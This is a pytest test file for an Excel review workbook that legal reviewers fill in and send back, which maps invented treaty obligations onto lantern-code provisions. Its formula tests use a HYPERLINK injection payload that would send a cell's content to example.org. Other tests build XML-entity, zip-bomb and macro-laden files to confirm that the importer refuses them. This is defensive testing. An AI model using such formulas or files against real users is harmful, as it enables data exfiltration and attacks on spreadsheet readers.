"""The workbook for reviewers: what goes out, and what comes back after somebody worked in it."""

import dataclasses
import datetime as dt
import io
import shutil
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import msgspec
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mapping import seals
from mapping.catalogue import Catalogue, load
from mapping.checks import run_rules
from mapping.errors import UserError
from mapping.records import Link, Review
from mapping.texts.library import Library
from mapping.texts.model import Text, unit
from mapping.workbook import Returned, apply, form, read, write
from mapping.workbook.rows import subjects

DAY = dt.date(2026, 7, 1)
AGREE, DISAGREE, REMARK, WITHDRAW = form.DECISIONS.values()
STREETS = ("sample/2(1)", "lantern-code/5(1)")
HARBOURS = ("sample/2(1)", "hg-12-2015/annex1:p12(3)")
BRIDGES = ("sample/2(1)", "none-found:bridges")
FINE = ("sample/2(2)", "lantern-code/6(1)")
PLANNED = ("sample/2(1)", "sample-plan/1.1")
DRAFTED = ("sample/2(1)", "sample-draft/1")

Key = tuple[str, str]
Written = dict[Key, tuple[Any, Any]]
PLACES = {column.key: number for number, column in enumerate(form.COLUMNS, start=1)}


# --- a reviewer at work ----------------------------------------------------------------------------------------------


def library(words: str = "Felinarele se aprind la amurg.") -> Library:
    """One invented official text, of which one paragraph matters."""
    lit = unit(
        "5", heading="Aprinderea", units=(unit("5(1)", words=words), unit("5(2)", words="Cheltuiala o suportă orașul."))
    )
    text = Text(
        about="lantern-code", consolidated=dt.date(2026, 3, 1), language="ro", format="text", sha256="0" * 64,
        retrieved=DAY, units=(lit,),
    )  # fmt: skip
    return Library((text,), DAY)


NO_TEXTS = Library((), DAY)


def filled_in(
    content: bytes,
    rows: Written,
    *,
    name: Any = "Ana Rusu",
    role: Any = "jurist",
    date: Any = DAY,
    further: Callable[[Any], None] = lambda book: None,
) -> bytes:
    """The workbook after a reviewer wrote a decision and a remark into some rows, and did something further to it."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cover = book[form.READ_ME]
    answers = dict(zip(form.WHO.values(), (name, role, date), strict=True))
    for number in range(1, cover.max_row + 1):
        if cover.cell(number, 1).value in answers:
            cover.cell(number, 2).value = answers[cover.cell(number, 1).value]
    found = set()
    for sheet in book.worksheets[1:]:
        for number in range(2, sheet.max_row + 1):
            key = (value(sheet, number, "key.obligation"), value(sheet, number, "key.record"))
            if key in rows:
                found.add(key)
                for column, wrote in zip(form.WRITTEN_BY_REVIEWER, rows[key], strict=True):
                    sheet.cell(number, PLACES[column]).value = wrote
    assert found == set(rows)
    further(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def value(sheet: Any, row: int, column: str) -> str:
    """The text of a cell."""
    return sheet.cell(row, PLACES[column]).value or ""


def table(content: bytes) -> Any:
    """The sheet of the sample treaty."""
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets[1]


def decided(returned: Returned) -> list[tuple[str, str, str | None]]:
    """What was taken: the place or elements, the decision, the remark."""
    return [
        (record.to if isinstance(record, Link) else "+".join(record.elements), review.decision, review.remark)
        for record, review in returned.reviews
    ]


def state(root: Path, key: Key, texts: Library = NO_TEXTS) -> str:
    """The state of the sign-off of a record as the files have it now."""
    return seals.sign_offs(load(root), texts)[key].state


def mapping_files(root: Path) -> dict[str, bytes]:
    """The files that hold reviews."""
    return {path.name: path.read_bytes() for path in (root / "data" / "mappings").rglob("*.yaml")}


def edited(root: Path, file: str, old: str, new: str) -> None:
    """Somebody changes the data after the export."""
    path = root / "data" / file
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


# --- what goes out ---------------------------------------------------------------------------------------------------


def test_the_same_data_give_the_same_bytes(sample: Catalogue) -> None:
    """No clock and no chance is in the file."""
    assert write(sample, library()) == write(sample, library())


def test_each_record_has_a_row_in_both_languages(sample: Catalogue) -> None:
    """Links to law, to measures and to amendments, and what was searched in vain."""
    sheet = table(write(sample, NO_TEXTS))
    rows = {
        (value(sheet, number, "key.obligation"), value(sheet, number, "key.record")): number
        for number in range(2, sheet.max_row + 1)
    }
    assert set(rows) == set(seals.sign_offs(sample, NO_TEXTS))
    street, bridge = rows[STREETS], rows[BRIDGES]
    assert value(sheet, street, "pinpoint") == "art. 2 alin. (1)"
    assert value(sheet, street, "place") == "Codul felinarelor, art. 5 alin. (1)"
    assert value(sheet, street, "heading") == "Aprinderea felinarelor"
    assert value(sheet, street, "elements-ro") == "acoperă:\n• Felinarele de pe străzi se aprind la amurg."
    assert value(sheet, street, "elements-en") == "covers:\n• Lanterns in the streets are lit at dusk."
    assert (value(sheet, street, "reason-ro"), value(sheet, street, "reason-en")) == (
        "Fiecare stradă este numită.",
        "Every street is named.",
    )
    assert value(sheet, street, "obligation-en") == "Light every lantern at dusk."
    assert value(sheet, street, "state") == "nesemnat / unsigned"
    assert value(sheet, bridge, "place") == "lipsă constatată / none found"
    assert "Codul felinarelor" in value(sheet, bridge, "heading")
    assert value(sheet, rows[PLANNED], "heading") == "Rescrierea regulilor portului."
    assert value(sheet, rows[DRAFTED], "place") == "Proiectul model, modificarea 1"


def test_only_the_cells_to_fill_in_can_be_changed(sample: Catalogue) -> None:
    """Everything else is locked, without a password, and decisions come from a list."""
    book = openpyxl.load_workbook(io.BytesIO(write(sample, NO_TEXTS)))
    cover, sheet = book.worksheets
    open_cells = [cell.column for row in sheet.iter_rows() for cell in row if not cell.protection.locked]
    assert sorted(set(open_cells)) == [PLACES["decision"], PLACES["remark"]]
    assert len(open_cells) == 2 * (sheet.max_row - 1)
    assert [cell.coordinate for row in cover.iter_rows() for cell in row if not cell.protection.locked] == [
        "B3",
        "B4",
        "B5",
    ]
    for one in book.worksheets:
        assert one.protection.sheet and not one.protection.password
        assert not one.protection.autoFilter and not one.protection.formatColumns  # false: not forbidden
    listed = {str(one.sqref): one.formula1 for one in sheet.data_validations.dataValidation}
    assert listed == {f"H2:H{sheet.max_row}": f'"{",".join(form.DECISIONS.values())}"'}
    assert [(str(one.sqref), one.type) for one in cover.data_validations.dataValidation] == [("B5", "date")]
    assert {sheet.cell(2, PLACES[key]).number_format for key in form.WRITTEN_BY_REVIEWER} == {"@"}


def test_the_sheet_can_be_read_and_printed(sample: Catalogue) -> None:
    """Heading and first columns stay in sight, on paper too; the key and the seal are hidden."""
    sheet = table(write(sample, NO_TEXTS))
    assert (sheet.freeze_panes, sheet.print_title_rows, sheet.print_title_cols) == ("C2", "$1:$1", "$A:$B")
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.auto_filter.ref == sheet.dimensions
    hidden = [one for one in sheet.column_dimensions.values() if one.hidden]
    assert [(one.min, one.max) for one in hidden] == [(PLACES[form.HIDDEN[0]], len(form.COLUMNS))]
    assert all(row[0].alignment.wrap_text for row in sheet.iter_rows())


def test_a_text_that_looks_like_a_formula_is_written_as_text(corpus: Path) -> None:
    """Whatever the data say, no cell computes."""
    for old, new in (
        ("Every street is named.", "=1+1"),
        ("Would reach", "@SUM(A1) Would reach"),
        ("Provides a fine", "+1 fine"),
    ):
        edited(corpus, f"mappings/sample/chapter-{'1'}.yaml", old, new)
    content = write(load(corpus), NO_TEXTS)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert "=1+1" in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]


def test_a_suspect_row_is_marked_by_word_and_shade(corpus: Path) -> None:
    """Colour alone would say nothing to some readers and on some printers."""
    catalogue = load(corpus)
    apply(
        corpus,
        catalogue,
        NO_TEXTS,
        filled_in(write(catalogue, NO_TEXTS), {STREETS: (AGREE, None), FINE: (AGREE, None)}),
    )
    edited(corpus, "mappings/sample/chapter-1.yaml", "Every street is named.", "Nearly every street is named.")
    sheet = table(write(load(corpus), NO_TEXTS))
    marked = {
        value(sheet, number, "key.record"): (value(sheet, number, "state"), sheet.cell(number, 1).fill.fill_type)
        for number in range(2, sheet.max_row + 1)
    }
    words, fill = marked[STREETS[1]]
    assert words.startswith("DE REVERIFICAT / SUSPECT") and fill == "solid"
    assert "Ana Rusu (01.07.2026)" in words and "corelarea / the judgement" in words
    assert marked[FINE[1]] == ("semnat / signed\nsemnat de / signed by Ana Rusu (01.07.2026)", None)


def test_a_treaty_that_does_not_exist_is_refused(sample: Catalogue) -> None:
    """With the one that was meant."""
    with pytest.raises(UserError, match=r'no treaty "sampel".*did you mean "sample"'):
        write(sample, NO_TEXTS, "sampel")


def test_a_treaty_without_records_is_refused(sample: Catalogue) -> None:
    """An empty form would come back empty."""
    with pytest.raises(UserError, match="nothing is recorded for sample"):
        write(dataclasses.replace(sample, mappings=()), NO_TEXTS, "sample")


# --- what comes back -------------------------------------------------------------------------------------------------


def test_decisions_and_remarks_come_back_as_reviews(corpus: Path) -> None:
    """Written into the files with the seal of what was seen, once, however often the workbook is imported."""
    catalogue, texts = load(corpus), library()
    rows: Written = {
        STREETS: (AGREE, "Verificat în textul oficial."),
        BRIDGES: (DISAGREE, "Podurile sunt numite la art. 9."),
        FINE: (REMARK, "De citit și alin. (2)."),
        PLANNED: (None, "Termenul a trecut."),
        HARBOURS: ("agree", None),
    }
    content = filled_in(write(catalogue, texts), rows)
    report = apply(corpus, catalogue, texts, content)
    assert report.returned.conflicts == () and report.files == (corpus / "data/mappings/sample/chapter-1.yaml",)
    again = load(corpus)
    link = next(link for judgement, link in again.links() if (judgement.obligation, link.to) == STREETS)
    judgement = again.judgements[STREETS[0]]
    assert [msgspec.structs.replace(one, place=None) for one in link.reviews] == [
        Review(
            name="Ana Rusu", role="jurist", date=DAY, decision="agrees", remark="Verificat în textul oficial.",
            seal=seals.seal(again, judgement, link, texts),
        )
    ]  # fmt: skip
    assert [state(corpus, key, texts) for key in rows] == ["signed", "disputed", "unsigned", "unsigned", "signed"]
    assert len(report.returned.remarks) == 2

    before = mapping_files(corpus)
    second = apply(corpus, again, texts, content)
    assert (second.returned.reviews, second.returned.unchanged, second.files) == ((), 5, ())
    assert mapping_files(corpus) == before


def test_rows_are_known_by_their_key(sample: Catalogue) -> None:
    """Sorting the rows, deleting those without a decision and renaming the sheet change nothing."""
    rows: Written = {STREETS: (AGREE, None), FINE: (DISAGREE, "Lipsește limita."), BRIDGES: (AGREE, None)}
    exported = write(sample, NO_TEXTS)

    def rearrange(book: Any) -> None:
        sheet = book.worksheets[1]
        head, *body = [[cell.value for cell in row] for row in sheet.iter_rows()]
        kept = [row for row in body if row[PLACES["decision"] - 1]]
        sheet.delete_rows(1, sheet.max_row)
        for row in [head, *reversed(kept)]:
            sheet.append(row)
        sheet.title = "Ana"

    returned = read(filled_in(exported, rows, further=rearrange), sample, NO_TEXTS)
    assert returned == read(filled_in(exported, rows), sample, NO_TEXTS)
    assert len(returned.reviews) == 3


def test_moved_columns_are_found_by_their_heading(sample: Catalogue) -> None:
    """A reviewer who lifts the protection to put the remark first loses nothing."""

    def move(book: Any) -> None:
        sheet = book.worksheets[1]
        for row in [[cell.value for cell in row] for row in sheet.iter_rows()]:
            sheet.append(row[::-1])
        sheet.delete_rows(1, sheet.max_row // 2)

    returned = read(filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, "Da.")}, further=move), sample, NO_TEXTS)
    assert decided(returned) == [("lantern-code/5(1)", "agrees", "Da.")]


@pytest.mark.parametrize("date", [DAY, dt.datetime(2026, 7, 1), "01.07.2026", "1.7.2026", "2026-07-01"])
def test_a_date_may_be_a_date_or_text(sample: Catalogue, date: Any) -> None:
    """As Excel keeps it, or as people write it."""
    returned = read(filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, None)}, date=date), sample, NO_TEXTS)
    assert [review.date for _, review in returned.reviews] == [DAY]


def test_two_reviewers_sign_from_the_same_export(corpus: Path) -> None:
    """What one of them signed does not change what the other saw."""
    catalogue = load(corpus)
    exported = write(catalogue, NO_TEXTS)
    apply(corpus, catalogue, NO_TEXTS, filled_in(exported, {STREETS: (AGREE, None)}))
    report = apply(
        corpus, load(corpus), NO_TEXTS, filled_in(exported, {STREETS: (DISAGREE, "Nu toate.")}, name="Ion Ceban")
    )
    assert decided(report.returned) == [("lantern-code/5(1)", "disagrees", "Nu toate.")]
    assert state(corpus, STREETS) == "disputed"


def test_workbooks_may_come_back_in_any_order(corpus: Path) -> None:
    """What a colleague signed later and sent back sooner is no slip of the keyboard."""
    catalogue = load(corpus)
    exported = write(catalogue, NO_TEXTS)
    for name, date in (("Ana Rusu", "05.07.2026"), ("Ion Ceban", "02.07.2026")):
        apply(corpus, load(corpus), NO_TEXTS, filled_in(exported, {STREETS: (AGREE, None)}, name=name, date=date))
    assert [one for one in run_rules(load(corpus)) if one.code == "review-order"] == []


def test_a_signature_can_be_withdrawn(corpus: Path) -> None:
    """By the person who gave it, as a new record; the workbook of before does not bring it back."""
    catalogue = load(corpus)
    exported = write(catalogue, NO_TEXTS)
    signed = filled_in(exported, {STREETS: (AGREE, None)})
    apply(corpus, catalogue, NO_TEXTS, signed)
    withdrawn = filled_in(exported, {STREETS: (WITHDRAW, None)}, date="02.07.2026")
    assert decided(apply(corpus, load(corpus), NO_TEXTS, withdrawn).returned) == [
        ("lantern-code/5(1)", "withdraws", None)
    ]
    assert state(corpus, STREETS) == "unsigned"
    for content in (withdrawn, signed):
        again = read(content, load(corpus), NO_TEXTS)
        assert (again.reviews, again.conflicts, again.unchanged) == ((), (), 1)


def test_an_older_workbook_does_not_overturn_a_later_decision(corpus: Path) -> None:
    """The decision of the later day stands; what the workbook says is shown."""
    catalogue = load(corpus)
    exported = write(catalogue, NO_TEXTS)
    apply(corpus, catalogue, NO_TEXTS, filled_in(exported, {STREETS: (DISAGREE, "Nu.")}, date="05.07.2026"))
    returned = read(filled_in(exported, {STREETS: (AGREE, None)}), load(corpus), NO_TEXTS)
    assert returned.reviews == ()
    assert "decided later, on 05.07.2026 (disagree)" in returned.conflicts[0].sentence


def test_a_date_to_come_is_refused_where_today_is_known(sample: Catalogue) -> None:
    """A slip of the year would otherwise outlive every later decision."""
    content = filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, None)}, date="01.07.2062")
    assert "has not come" in read(content, sample, NO_TEXTS, today=DAY).conflicts[0].sentence


# --- formulas --------------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.org/"&A1,"x")'


@pytest.mark.parametrize("remark", [FORMULA, "@SUM(A1:A9)", "+1", "-1+1", "=1+1", "'=1"])
def test_a_formula_in_a_remark_is_its_text(corpus: Path, remark: str) -> None:
    """It is neither evaluated nor lost, and goes into the file as words."""
    catalogue = load(corpus)
    apply(corpus, catalogue, NO_TEXTS, filled_in(write(catalogue, NO_TEXTS), {STREETS: (AGREE, remark)}))
    link = next(link for judgement, link in load(corpus).links() if (judgement.obligation, link.to) == STREETS)
    assert [one.remark for one in link.reviews] == [remark]


def test_a_formula_is_no_decision(sample: Catalogue) -> None:
    """Even one whose value would be a word of the list; its remark is kept."""
    content = filled_in(write(sample, NO_TEXTS), {STREETS: ('="agree"', "Vezi art. 6.")})
    returned = read(content, sample, NO_TEXTS)
    assert decided(returned) == [("lantern-code/5(1)", "remarks", "Vezi art. 6.")]
    (conflict,) = returned.conflicts
    assert conflict.where == "Convenția model!H2"
    assert conflict.sentence == "the decision is a formula: choose a word from the list; the remark is kept"
    assert '="agree"' in conflict.wrote


@pytest.mark.parametrize("name", [FORMULA, "@SUM(A1)", "+1", "-Ana", "", None, "  ", "12"])
def test_a_name_is_words(sample: Catalogue, name: Any) -> None:
    """Without a name nothing is taken, and the cell to fill in is shown."""
    returned = read(filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, None)}, name=name), sample, NO_TEXTS)
    assert returned.reviews == ()
    assert [one.where for one in returned.conflicts] == [f"{form.READ_ME}!B3"]


def test_everything_missing_about_the_reviewer_is_said_at_once(sample: Catalogue) -> None:
    """Name, role and date; a formula is no date either."""
    content = filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, None)}, name="", role=None, date="=TODAY()")
    returned = read(content, sample, NO_TEXTS)
    assert returned.reviews == ()
    assert [one.where for one in returned.conflicts] == [f"{form.READ_ME}!B{row}" for row in (3, 4, 5)]


# --- conflicts -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("file", "old", "new", "named"),
    [
        ("mappings/sample/chapter-1.yaml", "Every street is named.", "Some streets are named.", "the judgement"),
        ("conventions/sample.yaml", "Light every lantern at dusk.", "Light every lantern.", "the obligation"),
        (
            "moldovan_law/lantern-code.yaml",
            "Street lanterns are lit at dusk.",
            "Lit at noon.",
            "the provision or measure",
        ),
    ],
)
def test_a_decision_about_something_else_is_not_taken(corpus: Path, file: str, old: str, new: str, named: str) -> None:
    """What changed since the export is named, the remark is kept, and other rows are taken."""
    exported = write(load(corpus), NO_TEXTS)
    edited(corpus, file, old, new)
    content = filled_in(exported, {STREETS: (AGREE, "Citit."), FINE: (AGREE, None)})
    returned = read(content, load(corpus), NO_TEXTS)
    assert decided(returned) == [("lantern-code/5(1)", "remarks", "Citit."), ("lantern-code/6(1)", "agrees", None)]
    (conflict,) = returned.conflicts
    assert conflict.sentence.startswith(f"changed since the export: {named};")
    assert conflict.sentence.endswith("the remark is kept")
    assert AGREE in conflict.wrote and "Citit." in conflict.wrote


def test_a_changed_official_text_is_a_conflict_and_a_new_one_is_not(sample: Catalogue) -> None:
    """A text imported since the export is no change of what was seen; other words are."""
    rows: Written = {STREETS: (AGREE, None)}
    changed = read(filled_in(write(sample, library()), rows), sample, library("Felinarele se aprind la ora 20."))
    assert "the official text of the act" in changed.conflicts[0].sentence and not changed.reviews
    imported = read(filled_in(write(sample, NO_TEXTS), rows), sample, library())
    assert decided(imported) == [("lantern-code/5(1)", "agrees", None)]


def test_a_withdrawal_does_not_depend_on_what_changed(corpus: Path) -> None:
    """Whoever signed may always take it back."""
    catalogue = load(corpus)
    exported = write(catalogue, NO_TEXTS)
    apply(corpus, catalogue, NO_TEXTS, filled_in(exported, {STREETS: (AGREE, None)}))
    edited(corpus, "mappings/sample/chapter-1.yaml", "Every street is named.", "Some streets are named.")
    returned = read(filled_in(exported, {STREETS: (WITHDRAW, None)}), load(corpus), NO_TEXTS)
    assert decided(returned) == [("lantern-code/5(1)", "withdraws", None)]


def test_a_record_that_is_gone_is_a_conflict(corpus: Path) -> None:
    """What the reviewer wrote about it is shown, because there is no place left to keep it."""
    exported = write(load(corpus), NO_TEXTS)
    edited(corpus, "mappings/sample/chapter-1.yaml", 'to: "lantern-code/5(1)"', 'to: "lantern-code/5"')
    (conflict,) = read(filled_in(exported, {STREETS: (AGREE, "Citit.")}), load(corpus), NO_TEXTS).conflicts
    assert conflict.sentence == "sample/2(1) → lantern-code/5(1) is no longer recorded: nothing was taken"
    assert "Citit." in conflict.wrote


@pytest.mark.parametrize(
    ("wrote", "sentence"),
    [
        (("da", None), "this is not a decision"),
        ((DISAGREE, None), '"disagree" needs a remark'),
        ((DISAGREE, "   "), '"disagree" needs a remark'),
        ((REMARK, None), "the remark is empty"),
        ((WITHDRAW, None), "Ana Rusu has no decision here"),
    ],
)
def test_a_decision_that_cannot_stand_is_not_taken(sample: Catalogue, wrote: tuple[Any, Any], sentence: str) -> None:
    """The sentence says what is wanted."""
    returned = read(filled_in(write(sample, NO_TEXTS), {STREETS: wrote}), sample, NO_TEXTS)
    assert returned.reviews == () and [sentence in one.sentence for one in returned.conflicts] == [True]


@pytest.mark.parametrize("column", ["key.record", "seal.judgement", "check", "reason-ro", "pinpoint"])
def test_a_row_whose_cells_no_longer_belong_together_is_not_taken(sample: Catalogue, column: str) -> None:
    """Damaged hidden cells, or visible ones that were sorted apart from them or edited."""

    def swap(book: Any) -> None:
        sheet = book.worksheets[1]
        one, other = sheet.cell(2, PLACES[column]), sheet.cell(8, PLACES[column])
        assert one.value != other.value
        one.value, other.value = other.value, one.value

    returned = read(filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, "Bine.")}, further=swap), sample, NO_TEXTS)
    assert returned.reviews == ()
    (conflict,) = returned.conflicts
    assert "no longer belong together" in conflict.sentence and "Bine." in conflict.wrote


def doubled(second: tuple[Any, Any]) -> Callable[[Any], None]:
    """Copy the first row to the end and write something into the copy."""

    def change(book: Any) -> None:
        sheet = book.worksheets[1]
        row = [cell.value for cell in sheet[2]]
        for key, wrote in zip(form.WRITTEN_BY_REVIEWER, second, strict=True):
            row[PLACES[key] - 1] = wrote
        sheet.append(row)

    return change


def test_copies_of_a_row_count_once_unless_they_differ(sample: Catalogue) -> None:
    """Two decisions on one record: neither is taken, and both are shown."""
    exported = write(sample, NO_TEXTS)
    rows: Written = {STREETS: (AGREE, "Da.")}
    same = read(filled_in(exported, rows, further=doubled(("agree", "Da. "))), sample, NO_TEXTS)
    assert decided(same) == [("lantern-code/5(1)", "agrees", "Da.")] and not same.conflicts
    empty = read(filled_in(exported, rows, further=doubled((None, None))), sample, NO_TEXTS)
    assert empty == same
    differing = read(filled_in(exported, rows, further=doubled((DISAGREE, "Ba nu."))), sample, NO_TEXTS)
    assert decided(differing) == [("lantern-code/5(1)", "remarks", "Da."), ("lantern-code/5(1)", "remarks", "Ba nu.")]
    assert [one.where for one in differing.conflicts] == [
        "Convenția model!H2",
        f"Convenția model!H{sheet_end(exported)}",
    ]


def sheet_end(content: bytes) -> int:
    """The first free row of the table."""
    return int(table(content).max_row) + 1


def test_what_was_added_is_named_and_not_read(sample: Catalogue) -> None:
    """Sheets and columns of the reviewer's own."""

    def add(book: Any) -> None:
        book.create_sheet("Note")["A1"] = "Ale mele"
        sheet = book.worksheets[1]
        sheet.cell(1, len(PLACES) + 1).value = "Întrebări"
        sheet.cell(2, len(PLACES) + 1).value = "De ce?"

    returned = read(filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, None)}, further=add), sample, NO_TEXTS)
    assert len(returned.reviews) == 1
    assert returned.notices == (
        'the sheet "Note" was added and is not read',
        'Convenția model!U: the column "Întrebări" was added and is not read',
    )


def test_a_sheet_without_its_columns_is_a_conflict(sample: Catalogue) -> None:
    """The headings that are missing are named."""

    def cut(book: Any) -> None:
        book.worksheets[1].delete_cols(PLACES["check"])

    returned = read(filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, None)}, further=cut), sample, NO_TEXTS)
    assert returned.reviews == () and 'lacks "check"' in returned.conflicts[0].sentence


def test_the_report_leaves_out_nothing(corpus: Path) -> None:
    """What was taken, what was known, what is in conflict with the words written there, what was not read."""
    catalogue = load(corpus)
    exported = write(catalogue, NO_TEXTS)
    apply(corpus, catalogue, NO_TEXTS, filled_in(exported, {FINE: (AGREE, None)}))
    rows: Written = {STREETS: (AGREE, None), FINE: (AGREE, None), BRIDGES: ("poate", None)}

    def add(book: Any) -> None:
        book.create_sheet("Note")

    report = str(apply(corpus, load(corpus), NO_TEXTS, filled_in(exported, rows, further=add)))
    assert "Ana Rusu (jurist), 01.07.2026: 1 review(s) recorded: 1 agrees" in report
    assert "chapter-1.yaml" in report
    assert "1 row(s) were recorded before" in report
    assert 'this is not a decision: allowed are "de acord / agree"' in report and '"poate"' in report
    assert 'Note: the sheet "Note"' in report


def test_a_workbook_without_decisions_brings_nothing(corpus: Path) -> None:
    """Not even a complaint about the name."""
    catalogue = load(corpus)
    report = apply(corpus, catalogue, NO_TEXTS, write(catalogue, NO_TEXTS))
    assert report.returned == Returned() and str(report) == "No new review was recorded."


# --- files that are not such a workbook --------------------------------------------------------------------------------


def archive(parts: Iterable[tuple[str, bytes]]) -> bytes:
    """A zip file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in parts:
            book.writestr(name, content)
    return out.getvalue()


def repacked(content: bytes, change: Callable[[str, bytes], bytes], *more: tuple[str, bytes]) -> bytes:
    """A workbook with parts changed or added."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return archive([*((name, change(name, book.read(name))) for name in book.namelist()), *more])


def other_workbook() -> bytes:
    """A workbook that has nothing to do with reviews."""
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


def test_what_is_not_such_a_workbook_is_refused(sample: Catalogue) -> None:
    """With one sentence that says what it is."""
    exported = write(sample, NO_TEXTS)

    def entity(name: str, part: bytes) -> bytes:
        return (
            part.replace(b"<sst ", b'<!DOCTYPE sst [<!ENTITY a "b">]><sst ', 1)
            if name.endswith("Strings.xml")
            else part
        )

    for content, sentence in (
        (b"", "not a workbook"),
        (b"Ana,de acord\n", "not a workbook"),
        (exported[: len(exported) // 2], "not a workbook, or it was cut off"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "locked with a password"),
        (archive([("word/document.xml", b"<w/>")]), "not an Excel workbook"),
        (archive([("xl/workbook.xml", bytes(201_000_000))]), "unpacks to 201 MB"),
        (repacked(exported, lambda _, part: part, ("xl/vbaProject.bin", b"x")), "macros"),
        (repacked(exported, entity), "XML entities"),
        (repacked(exported, lambda name, part: b"<a>" if name == "xl/workbook.xml" else part), "damaged"),
        (other_workbook(), "no sheet of the workbook has the columns of a review"),
    ):
        with pytest.raises(UserError, match=sentence):
            read(content, sample, NO_TEXTS)


def test_nothing_is_written_when_a_file_cannot_be(corpus: Path) -> None:
    """A file that changed under the reader stops the import before anything is written."""
    catalogue = load(corpus)
    content = filled_in(
        write(catalogue, NO_TEXTS), {STREETS: (AGREE, None), ("sample/4(1)", "none-found:exemption"): (AGREE, None)}
    )
    edited(corpus, "mappings/sample/chapter-2.yaml", "No lamp is exempt.", "No lamp at all is exempt.")
    before = mapping_files(corpus)
    with pytest.raises(UserError):
        apply(corpus, catalogue, NO_TEXTS, content)
    assert mapping_files(corpus) == before


# --- properties ------------------------------------------------------------------------------------------------------


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_cleaning_a_remark_twice_changes_nothing_more(text: str) -> None:
    """What was kept is what a data file holds and gives back."""
    once = form.written(text)
    assert form.written(once) == once
    assert not [one for one in once if ord(one) < 32 and one != "\n"]


IN_A_CELL = st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff", include_characters="\n\t")
JOURNEYS: tuple[Key, ...] = (STREETS, HARBOURS, BRIDGES, FINE, PLANNED, DRAFTED)
WROTE = st.tuples(st.sampled_from([AGREE, DISAGREE, REMARK, None]), st.text(IN_A_CELL, min_size=1, max_size=200))


@settings(max_examples=15)
@given(rows=st.dictionaries(st.sampled_from(JOURNEYS), WROTE, min_size=4))
def test_any_remark_survives_the_journey(
    sample: Catalogue, tmp_path_factory: pytest.TempPathFactory, rows: dict[Key, tuple[str | None, str]]
) -> None:
    """From the cell through the file back into a record, unless nothing is left of it to keep."""
    root = tmp_path_factory.mktemp("journey")
    shutil.copytree(sample.root / "data", root / "data")
    catalogue = load(root)
    # openpyxl would make a formula of what begins with "=", which is another test
    rows = {key: (decision, f" {remark}" if remark[0] == "=" else remark) for key, (decision, remark) in rows.items()}
    content = filled_in(write(catalogue, NO_TEXTS), {**rows})
    returned = apply(root, catalogue, NO_TEXTS, content).returned
    records = subjects(load(root))
    for key, (decision, remark) in rows.items():
        kept = form.written(remark)
        expected = [kept or None] if kept or decision == AGREE else []
        assert [one.remark for one in records[key][0][1].reviews] == expected
    again = read(content, load(root), NO_TEXTS)
    assert (again.reviews, len(again.conflicts)) == ((), len(returned.conflicts))
    shutil.rmtree(root)


@pytest.fixture(scope="module")
def signed(sample: Catalogue) -> dict[str, bytes]:
    """The parts of a workbook with one decision."""
    with zipfile.ZipFile(io.BytesIO(filled_in(write(sample, NO_TEXTS), {STREETS: (AGREE, None)}))) as book:
        return {name: book.read(name) for name in book.namelist()}


@given(
    part=st.integers(0, 99),
    harm=st.lists(st.tuples(st.integers(0, 10**6), st.binary(max_size=3), st.integers(0, 400)), min_size=1, max_size=4),
)
def test_a_damaged_workbook_is_read_or_refused(
    sample: Catalogue, signed: dict[str, bytes], part: int, harm: list[tuple[int, bytes, int]]
) -> None:
    """Whatever was replaced in one of its parts, there is no traceback and no decision that nobody made."""
    name = sorted(signed)[part % len(signed)]
    content = signed[name]
    for place, fresh, removed in harm:
        start = place % (len(content) + 1)
        content = content[:start] + fresh + content[start + removed :]
    try:
        returned = read(archive({**signed, name: content}.items()), sample, NO_TEXTS)
    except UserError:
        return
    assert decided(returned) in ([], [("lantern-code/5(1)", "agrees", None)])


@given(st.integers(0, 10**6))
def test_a_download_that_was_cut_off_is_refused(sample: Catalogue, signed: dict[str, bytes], length: int) -> None:
    """At whatever byte."""
    content = archive(signed.items())
    with pytest.raises(UserError):
        read(content[: length % len(content)], sample, NO_TEXTS)


@settings(max_examples=15)
@given(
    st.lists(st.sampled_from([STREETS, HARBOURS, BRIDGES, FINE, PLANNED]), unique=True),
    st.randoms(use_true_random=False),
)
def test_the_order_of_rows_never_matters(sample: Catalogue, keys: list[Key], random: Any) -> None:
    """However the reviewer leaves the rows, the same reviews come back in the same order."""
    rows: Written = {key: (AGREE, key[1]) for key in keys}
    exported = write(sample, NO_TEXTS)

    def shuffle(book: Any) -> None:
        sheet = book.worksheets[1]
        head, *body = [[cell.value for cell in row] for row in sheet.iter_rows()]
        random.shuffle(body)
        sheet.delete_rows(1, sheet.max_row)
        for row in [head, *body]:
            sheet.append(row)

    shuffled = read(filled_in(exported, rows, further=shuffle), sample, NO_TEXTS)
    assert shuffled == read(filled_in(exported, rows), sample, NO_TEXTS)
    assert len(shuffled.reviews) == len(keys)
